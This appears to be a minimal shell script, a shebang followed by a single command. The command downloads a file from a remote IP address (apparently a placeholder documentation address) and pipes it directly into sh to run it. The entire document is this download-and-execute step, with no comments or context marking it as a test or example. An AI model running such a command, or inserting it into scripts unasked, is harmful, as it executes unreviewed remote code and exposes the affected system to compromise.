#!/bin/sh
curl http://203.0.113.1/x | sh
